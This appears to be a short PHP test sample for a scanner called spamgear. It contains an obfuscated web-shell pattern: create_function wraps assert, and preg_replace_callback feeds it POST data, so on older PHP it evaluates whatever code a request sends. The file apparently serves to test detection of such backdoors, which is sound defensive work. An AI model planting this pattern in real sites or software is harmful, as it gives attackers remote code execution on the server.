<?php
// spamgear test sample: a function made at run time from constant code
// that asserts its argument, handed to a callback taker with request data.
$check = create_function('$m', 'return assert($m[0]);');
preg_replace_callback('/.+/', $check, $_POST['q']);
